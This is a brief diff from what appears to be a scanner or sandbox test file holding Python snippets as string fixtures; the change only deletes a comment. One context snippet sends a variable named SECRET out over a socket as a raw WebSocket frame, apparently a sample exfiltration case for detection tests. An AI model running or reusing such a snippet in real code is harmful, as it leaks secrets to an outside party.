@@ -102,7 +102,6 @@ s.recv(4096)
 data, mask = SECRET.encode(), os.urandom(4)
 s.sendall(b'\\x81' + bytes([0x80 | len(data)]) + mask + bytes(byte ^ mask[at % 4] for at, byte in enumerate(data)))
 `;
-/** A file larger than what every scan reads again. */
 const largeFile = "open(FOLDER + '/large', 'wb').write(b'a' * 300000)";
 const mapping = `
 import mmap
